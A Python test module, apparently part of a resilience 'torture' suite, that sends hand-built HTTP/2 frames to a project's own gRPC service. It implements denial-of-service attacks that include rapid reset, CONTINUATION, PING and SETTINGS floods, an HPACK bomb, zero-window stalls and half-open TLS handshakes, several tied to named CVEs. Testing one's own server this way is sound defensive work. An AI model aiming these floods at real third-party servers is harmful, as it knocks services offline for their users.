"""Attacks of clients without a key on the gRPC port, in frames of HTTP/2 that no library would send."""

import struct
from contextlib import ExitStack

from grpc_health.v1 import health_pb2

from support.http2 import GOAWAY, PREFACE, START, START_WITH_LARGE_WINDOWS, frame, frames, headers, message
from torture.stranger import Attack, Target, closed_after, connected, received, send
from torture.stranger_rest import tls_handshakes

_DATA, _HEADERS, _PRIORITY, _RST, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
_WATCH, _CHECK, _RERANK = "/grpc.health.v1.Health/Watch", "/grpc.health.v1.Health/Check", "/rerank.v1.Rerank/Rerank"
_INFO = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
_OPEN_HEADERS = frame(_HEADERS, 0, 1, headers(1, _RERANK)[9:])
"""Headers of a call without END_HEADERS."""
_PART = 2000
"""Frames that are sent at once."""


async def idle(target: Target, count: int, held: ExitStack) -> str:
    """Open connections, finish the start of HTTP/2, and make no call."""
    for _ in range(count):
        client = connected(target.grpc, held)
        await send(client, START)
        await received(client)
    return "kept"


async def silent(target: Target, count: int, held: ExitStack) -> str:
    """Wait until connections that send nothing are closed."""
    return await closed_after([connected(target.grpc, held) for _ in range(count)][-1])


async def _calls(target: Target, count: int, held: ExitStack, method: str, content: bytes, per: int = 900) -> str:
    """Make calls, `per` of them on each connection, and let them wait."""
    streams = [2 * call + 1 for call in range(per)]
    for begin in range(0, count, per):
        client = connected(target.grpc, held)
        await send(client, START_WITH_LARGE_WINDOWS)
        for stream in streams[: count - begin]:
            await send(client, headers(stream, method) + content.replace(b"\0\0\0\1", stream.to_bytes(4, "big")))
    return "kept"


def _open_message(content: bytes, size: int | None = None) -> bytes:
    """Return a message of stream 1 that leaves the client's side open."""
    return frame(_DATA, 0, 1, b"\0" + (len(content) if size is None else size).to_bytes(4, "big") + content)


async def watch(target: Target, count: int, held: ExitStack) -> str:
    """Watch the health, which ends with the connection only."""
    return await _calls(target, count, held, _WATCH, _open_message(b""))


async def watch_name(target: Target, count: int, held: ExitStack) -> str:
    """Watch the health of a service whose name has 10 KB."""
    content = health_pb2.HealthCheckRequest(service="a" * 10_000).SerializeToString()
    return await _calls(target, count, held, _WATCH, _open_message(content), per=450)


async def no_message(target: Target, count: int, held: ExitStack) -> str:
    """Ask for the reflection, and send no message."""
    return await _calls(target, count, held, _INFO, b"")


async def half_message(target: Target, count: int, held: ExitStack) -> str:
    """Send 60 KB of a message of 30 MB to the reflection."""
    parts = b"".join(frame(_DATA, 0, 1, b"a" * 15_000) for _ in range(4))
    return await _calls(target, count, held, _INFO, _open_message(b"", size=30_000_000) + parts, per=100)


async def refused(target: Target, count: int, held: ExitStack) -> str:
    """Make calls without a key, one after the other."""
    client = connected(target.grpc, held)
    await send(client, START_WITH_LARGE_WINDOWS)
    for call in range(count):
        await send(client, headers(2 * call + 1, _RERANK) + message(2 * call + 1, b""))
        while b"grpc-status" not in (await received(client) or b"grpc-status") and call == 0:
            pass
    return "UNAUTHENTICATED"


async def large_message(target: Target, count: int, held: ExitStack) -> str:
    """Send 30 MB of a message without a key."""
    part = frame(_DATA, 0, 1, b"a" * 16_384)
    for _ in range(count):
        client = connected(target.grpc, held)
        await send(client, START + headers(1, _RERANK) + _open_message(b"", size=30_000_000))
        await send(client, part * 1800, seconds=5)
    return "not read"


async def _flood(
    target: Target, count: int, held: ExitStack, content: bytes, each: bytes, *, reads: bool = True
) -> str:
    """Send a frame many times on a connection, and return the reaction of the server."""
    client = connected(target.grpc, held, receive_bytes=None if reads else 4096)
    await send(client, content)
    seen = b""
    for begin in range(0, count, _PART):
        if not await send(client, each * _PART, seconds=5):
            return f"closed, or not read, after {begin:,} frames{_goaway(seen)}"
        while reads and (part := await received(client, 0.01)) is not None:
            seen = (seen + part)[-4096:]
            if not part:
                return f"closed after {begin + _PART:,} frames{_goaway(seen)}"
    return "kept"


def _goaway(seen: bytes) -> str:
    """Return the reason that the server gave."""
    for reason in (b"too_many_pings", b"ENHANCE_YOUR_CALM", b"Max"):
        if reason in seen:
            return f" ({reason.decode()})"
    return ""


async def rapid_reset(target: Target, count: int, held: ExitStack) -> str:
    """Make calls, and cancel each at once (CVE-2023-44487)."""
    client = connected(target.grpc, held)
    await send(client, START_WITH_LARGE_WINDOWS)
    seen = b""
    for begin in range(0, count, 500):
        calls = [2 * call + 1 for call in range(begin, begin + 500)]
        content = b"".join(headers(call, _RERANK) + frame(_RST, 0, call, struct.pack(">I", 8)) for call in calls)
        if not await send(client, content, seconds=10):
            return f"closed after {begin:,} calls"
        while (part := await received(client, 0.01)) is not None:
            seen = (seen + part)[-200:]
            if not part:
                return f"closed after {begin + 500:,} calls"
    return "kept"


async def continuation(target: Target, count: int, held: ExitStack) -> str:
    """Continue a header without end (CVE-2024-27983 and others)."""
    return await _flood(
        target, count, held, START + _OPEN_HEADERS, frame(_CONTINUATION, 0, 1, b"\0\1a\x7f" + b"b" * 50)
    )


async def empty_continuation(target: Target, count: int, held: ExitStack) -> str:
    """Continue a header by empty frames."""
    return await _flood(target, count, held, START + _OPEN_HEADERS, frame(_CONTINUATION, 0, 1))


async def pings(target: Target, count: int, held: ExitStack) -> str:
    """Ping as fast as possible (CVE-2019-9512)."""
    return await _flood(target, count, held, START, frame(_PING, 0, 0, b"12345678"))


async def settings(target: Target, count: int, held: ExitStack) -> str:
    """Change the settings as fast as possible (CVE-2019-9515)."""
    return await _flood(target, count, held, START, frame(_SETTINGS, 0, 0))


async def settings_unread(target: Target, count: int, held: ExitStack) -> str:
    """Change them, and read no acknowledgement."""
    return await _flood(target, count, held, START, frame(_SETTINGS, 0, 0), reads=False)


async def empty_data(target: Target, count: int, held: ExitStack) -> str:
    """Send empty data to an open call (CVE-2019-9518)."""
    return await _flood(target, count, held, START + headers(1, _INFO), frame(_DATA, 0, 1))


async def priorities(target: Target, count: int, held: ExitStack) -> str:
    """Change the priority of a stream (CVE-2019-9513)."""
    return await _flood(target, count, held, START, frame(_PRIORITY, 0, 1, b"\0\0\0\0\x10"))


async def windows(target: Target, count: int, held: ExitStack) -> str:
    """Enlarge the window of the connection by one byte."""
    return await _flood(target, count, held, START, frame(_WINDOW, 0, 0, b"\0\0\0\1"))


async def hpack_bomb(target: Target, count: int, held: ExitStack) -> str:
    """Put a header of 4,000 bytes into the table, and refer to it by a byte, 4,000 times in each call."""
    client = connected(target.grpc, held)
    value = b"b" * 3900
    stored = b"\x40\x03big\x7f" + bytes([(len(value) - 127) & 127 | 128, (len(value) - 127) >> 7]) + value
    calls = b""
    for call in range(count):
        block = (stored if call == 0 else b"") + b"\xbe" * 4000
        head = headers(2 * call + 1, _RERANK)
        payload = head[9:] + block
        calls += frame(_HEADERS, 5, 2 * call + 1, payload)
    await send(client, START + calls)
    answer = b""
    while (part := await received(client, 1)) is not None and part:
        answer += part
    refused = answer.count(b"grpc-status") + sum(kind in (_RST, GOAWAY) for kind, _, _ in _whole(answer))
    return f"{refused} refusals"


def _whole(answer: bytes) -> list[tuple[int, int, bytes]]:
    try:
        return frames(answer)
    except IndexError:
        return []


async def zero_window(target: Target, count: int, held: ExitStack) -> str:
    """Ask for the reflection with a window of 0 bytes, so that no response can be sent (CVE-2019-9517)."""
    start = PREFACE + frame(_SETTINGS, 0, 0, (4).to_bytes(2, "big") + bytes(4)) + frame(_SETTINGS, 1, 0)
    asked = b"\x22\x10rerank.v1.Rerank"  # file_containing_symbol
    for begin in range(0, count, 900):
        client = connected(target.grpc, held)
        await send(client, start)
        for call in range(min(900, count - begin)):
            await send(client, headers(2 * call + 1, _INFO) + message(2 * call + 1, asked))
    return "kept"


async def half_handshake(target: Target, count: int, held: ExitStack) -> str:
    """Send the beginning of a TLS handshake."""
    for client in [connected(target.grpc, held) for _ in range(count)]:
        await send(client, b"\x16\x03\x01")
    return "kept"


async def handshake(target: Target, count: int, held: ExitStack) -> str:
    """Finish TLS handshakes one after the other."""
    return await tls_handshakes(target.grpc, count)


ATTACKS = (
    Attack(title="gRPC: idle connection", unit="connection", count=300, run=idle),
    Attack(title="gRPC: connection that sends nothing", unit="connection", count=5, run=silent),
    Attack(title="gRPC: call without a key", unit="call", count=500, run=refused),
    Attack(title="gRPC: message of 30 MB without a key", unit="call", count=5, run=large_message),
    Attack(title="gRPC: health watch", unit="call", count=900, run=watch),
    Attack(title="gRPC: health watch of a name of 10 KB", unit="call", count=900, run=watch_name),
    Attack(title="gRPC: reflection without a message", unit="call", count=900, run=no_message),
    Attack(title="gRPC: 60 KB of a message of 30 MB, to reflection", unit="call", count=100, run=half_message),
    Attack(title="gRPC: responses to a window of 0", unit="call", count=900, run=zero_window),
    Attack(title="gRPC: rapid reset", unit="call", count=20_000, run=rapid_reset),
    Attack(title="gRPC: CONTINUATION of 54 bytes", unit="frame", count=100_000, run=continuation),
    Attack(title="gRPC: empty CONTINUATION", unit="frame", count=100_000, run=empty_continuation),
    Attack(title="gRPC: PING", unit="frame", count=100_000, run=pings),
    Attack(title="gRPC: SETTINGS", unit="frame", count=100_000, run=settings),
    Attack(title="gRPC: SETTINGS, answers not read", unit="frame", count=500_000, run=settings_unread),
    Attack(title="gRPC: empty DATA", unit="frame", count=100_000, run=empty_data),
    Attack(title="gRPC: PRIORITY", unit="frame", count=100_000, run=priorities),
    Attack(title="gRPC: WINDOW_UPDATE", unit="frame", count=100_000, run=windows),
    Attack(title="gRPC: HPACK bomb of 16 MB", unit="call", count=100, run=hpack_bomb),
    Attack(title="gRPC: half TLS handshake", unit="connection", count=300, run=half_handshake, tls=True),
    Attack(title="gRPC: TLS handshake", unit="handshake", count=100, run=handshake, tls=True),
)
